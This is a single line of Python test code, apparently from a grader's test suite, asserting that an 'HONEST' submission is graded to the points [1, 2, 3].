    assert points(grade(submission(**HONEST))) == [1, 2, 3]
